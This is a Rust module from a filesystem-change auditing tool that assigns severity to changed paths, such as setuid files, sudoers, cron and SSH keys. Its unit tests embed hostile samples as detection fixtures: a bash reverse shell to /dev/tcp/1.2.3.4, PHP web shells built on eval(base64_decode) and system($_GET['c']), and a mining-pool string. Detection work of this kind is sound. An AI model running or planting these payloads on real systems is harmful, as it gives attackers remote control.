//! How much a change deserves a look: the first rule that fits.

use rustix::fs::FileType;

use crate::change::{Change, Kind, Reason, Reasons, Severity};
use crate::content::Sniff;
use crate::rules::{Candidates, Magic, Property, Rule, When};

/// What is known of a changed path when it is judged.
#[derive(Debug)]
pub(crate) struct Facts<'a> {
    pub(crate) path: &'a [u8],
    pub(crate) kind: Kind,
    pub(crate) file_type: FileType,
    pub(crate) mode: u16,
    pub(crate) has_capability: bool,
    pub(crate) reasons: Reasons,
    /// What its content tells, when that was looked at.
    pub(crate) sniff: Option<&'a Sniff>,
}

/// What must be read before a change can be judged.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Need {
    /// Nothing.
    Nothing,
    /// The first bytes.
    Magic,
    /// Enough to look for patterns.
    Patterns,
}

impl<'a> Facts<'a> {
    /// A path of which nothing but the name is known.
    pub(crate) fn of_name(path: &'a [u8], kind: Kind) -> Self {
        Self {
            path,
            kind,
            file_type: FileType::Unknown,
            mode: 0,
            has_capability: false,
            reasons: Reasons::default(),
            sniff: None,
        }
    }

    /// The worst rule that fits.
    pub(crate) fn judge<'r>(&self, candidates: &Candidates<'r>) -> Option<&'r Rule> {
        let name = self.name();
        let mut rules = candidates.rules.iter();
        // The cheapest test first: most rules ask for what few files are.
        let found = rules.find(|candidate| {
            self.fits(candidate.rule)
                && candidate.fits_path(self.path, name)
                && self.content_fits(candidate.rule)
        });
        found.map(|candidate| candidate.rule)
    }

    /// What to read of its content before it is judged: rules that come after one that fits
    /// already need not be tried.
    pub(crate) fn need(&self, candidates: &Candidates<'_>) -> Need {
        let mut need = Need::Nothing;
        let name = self.name();
        let fitting = candidates
            .rules
            .iter()
            .filter(|candidate| self.fits(candidate.rule) && candidate.fits_path(self.path, name));
        for rule in fitting.map(|candidate| candidate.rule) {
            if !rule.asks_content() {
                break;
            }
            if !rule.contains.is_empty() {
                return Need::Patterns;
            }
            need = Need::Magic;
        }
        need
    }

    fn name(&self) -> &'a [u8] {
        let slash = self.path.iter().rposition(|byte| *byte == b'/');
        slash.map_or(self.path, |slash| &self.path[slash + 1..])
    }

    fn fits(&self, rule: &Rule) -> bool {
        let fits = match rule.when {
            When::Any => true,
            When::Present => self.kind != Kind::Deleted,
            When::Added => self.kind == Kind::Added,
            When::Changed => self.kind == Kind::Changed,
            When::Deleted => self.kind == Kind::Deleted,
        };
        fits && rule.is.iter().all(|property| self.is(*property))
    }

    fn is(&self, property: Property) -> bool {
        let is_present = self.kind != Kind::Deleted;
        let is_program = is_present && is_program(self.file_type, self.mode);
        match property {
            Property::Executable => is_program,
            Property::Setuid => is_program && self.mode & 0o6000 != 0,
            Property::Capability => is_program && self.has_capability,
            Property::Device => {
                is_present
                    && matches!(
                        self.file_type,
                        FileType::BlockDevice | FileType::CharacterDevice
                    )
            }
            Property::KeptTime => {
                let has_other_content =
                    self.reasons.contains(Reason::Content) || self.reasons.contains(Reason::Size);
                self.file_type == FileType::RegularFile
                    && has_other_content
                    && !self.reasons.contains(Reason::Type)
                    && !self.reasons.contains(Reason::Mtime)
            }
            Property::Hidden => self.name().starts_with(b"."),
        }
    }

    fn content_fits(&self, rule: &Rule) -> bool {
        if !rule.asks_content() {
            return true;
        }
        let Some(sniff) = self.sniff else {
            return false;
        };
        let is_kind = rule.magic.is_empty()
            || rule.magic.iter().any(|magic| match magic {
                Magic::Elf => sniff.is_elf,
                Magic::Script => sniff.is_script,
            });
        let patterns = &rule.contains;
        is_kind
            && (patterns.is_empty() || patterns.iter().any(|known| sniff.patterns.contains(known)))
    }
}

/// Capabilities count on what can be executed only.
pub(crate) fn is_program(file_type: FileType, mode: u16) -> bool {
    file_type == FileType::RegularFile && mode & 0o111 != 0
}

/// A change with what the rule says of it.
pub(crate) fn change(
    path: Vec<u8>,
    compatible: Option<Kind>,
    actual: Option<Kind>,
    reasons: Reasons,
    rule: Option<&Rule>,
) -> Change {
    Change {
        path,
        compatible,
        actual,
        reasons,
        severity: rule.map_or(Severity::Info, |rule| rule.severity),
        finding: rule.map(|rule| rule.finding.clone()),
        detail: None,
        patch: None,
    }
}

#[cfg(test)]
mod tests {
    use super::Kind::{Added, Changed, Deleted};
    use super::Severity::{Critical, High, Info, Low, Medium};
    use super::*;
    use crate::overlay::parent;
    use crate::rules::Rules;

    #[rustfmt::skip]
    const TABLE: &[(&str, Kind, u16, &str, Severity)] = &[
        ("/usr/bin/su", Added, 0o4755, "setuid", Critical),
        ("/etc/ld.so.preload", Added, 0o644, "ld-so-preload", Critical),
        ("/etc/shadow", Changed, 0o640, "accounts", Critical),
        ("/etc/sudoers.d/x", Added, 0o440, "sudoers", Critical),
        ("/root/.ssh/authorized_keys", Added, 0o600, "ssh-keys", Critical),
        ("/etc/cron.d/x", Added, 0o644, "cron", High),
        ("/var/spool/cron/crontabs/root", Added, 0o600, "cron", High),
        ("/etc/systemd/system/x.service", Added, 0o644, "services", High),
        ("/home/a/.bashrc", Changed, 0o644, "user-shell-profile", High),
        ("/var/www/html/x.php", Added, 0o644, "web-code", High),
        ("/var/www/html/index.html", Changed, 0o644, "web-page", Medium),
        ("/tmp/x", Added, 0o755, "program-in-tmp", High),
        ("/dev/shm/x", Added, 0o755, "program-in-tmp", High),
        ("/opt/x", Added, 0o755, "new-program", Medium),
        ("/usr/bin/ls", Changed, 0o755, "system-program", High),
        ("/usr/bin/ls", Deleted, 0, "program-deleted", Low),
        ("/var/lib/dpkg/status", Changed, 0o644, "packages", Medium),
        ("/tmp/.x", Added, 0o644, "hidden-in-tmp", Medium),
        ("/tmp/.x", Deleted, 0o644, "", Info),
        ("/var/log/auth.log", Deleted, 0, "log-deleted", Medium),
        ("/var/cache/x", Added, 0o644, "", Info),
        ("/etc/cron.dx", Added, 0o644, "settings", Low),
        ("/etc/group", Changed, 0o644, "groups", Medium),
    ];

    fn named(facts: &Facts<'_>) -> (String, Severity) {
        let rules = Rules::builtin();
        let rule = facts.judge(&rules.in_directory(parent(facts.path)));
        rule.map_or_else(
            || (String::new(), Info),
            |rule| (rule.finding.rule.clone(), rule.severity),
        )
    }

    fn file(path: &str, kind: Kind, mode: u16) -> Facts<'_> {
        Facts {
            file_type: FileType::RegularFile,
            mode,
            ..Facts::of_name(path.as_bytes(), kind)
        }
    }

    #[test]
    fn what_attackers_do_is_found_and_ordinary_files_are_not() {
        for (path, kind, mode, rule, severity) in TABLE.iter().copied() {
            assert_eq!(
                named(&file(path, kind, mode)),
                (rule.to_owned(), severity),
                "{path}"
            );
        }
    }

    #[test]
    fn content_tells_more_than_a_name() {
        let rules = Rules::builtin();
        let patterns = rules.in_directory(b"/").patterns.unwrap();
        let sniff = |text: &[u8]| Sniff {
            is_elf: text.starts_with(b"\x7fELF"),
            is_script: text.starts_with(b"#!"),
            patterns: patterns
                .find_overlapping_iter(text)
                .map(|m| m.pattern().as_usize())
                .collect(),
        };
        for (path, mode, text, rule) in [
            ("/opt/x", 0o755, &b"\x7fELF"[..], "new-binary"),
            ("/opt/x", 0o755, b"#!/bin/sh", "new-program"),
            ("/opt/x", 0o644, b"\x7fELF", "disguised-binary"),
            ("/opt/x", 0o644, b"pool=STRATUM+TCP://p:3333", "miner"),
            (
                "/opt/x",
                0o755,
                b"#!/bin/bash\nbash -i >& /dev/tcp/1.2.3.4/9 0>&1",
                "reverse-shell",
            ),
            (
                "/var/www/i.php",
                0o644,
                b"<?php eval(base64_decode($x));",
                "web-shell",
            ),
            (
                "/data/up/logo.png",
                0o644,
                b"<?php system($_GET['c']);",
                "web-shell",
            ),
            (
                "/data/up/notes.txt",
                0o644,
                b"<?php system($_GET['c']);",
                "",
            ),
            ("/opt/readme", 0o644, b"plain", ""),
        ] {
            let found = sniff(text);
            let facts = Facts {
                sniff: Some(&found),
                ..file(path, Added, mode)
            };
            assert_eq!(named(&facts).0, rule, "{path} {}", text.escape_ascii());
        }
    }

    #[test]
    fn content_is_asked_for_only_where_a_worse_rule_could_come_of_it() {
        let rules = Rules::builtin();
        let need = |facts: &Facts<'_>| facts.need(&rules.in_directory(parent(facts.path)));
        assert_eq!(need(&file("/etc/shadow", Changed, 0o600)), Need::Nothing);
        assert_eq!(need(&file("/opt/x", Added, 0o644)), Need::Patterns);
        assert_eq!(need(&file("/opt/x", Deleted, 0o755)), Need::Nothing);
    }

    #[test]
    fn an_edit_that_keeps_the_time_is_stealthy_whatever_it_does_to_the_size() {
        for (reason, others, is_stealthy) in [
            (Reason::Content, None, true),
            (Reason::Size, None, true),
            (Reason::Size, Some(Reason::Mtime), false),
            (Reason::Size, Some(Reason::Type), false),
            (Reason::Mode, None, false),
        ] {
            let mut facts = file("/x", Changed, 0o644);
            facts.reasons.add(reason, true);
            if let Some(other) = others {
                facts.reasons.add(other, true);
            }
            assert_eq!(
                named(&facts).0 == "kept-time",
                is_stealthy,
                "{reason:?} {others:?}"
            );
        }
    }
}
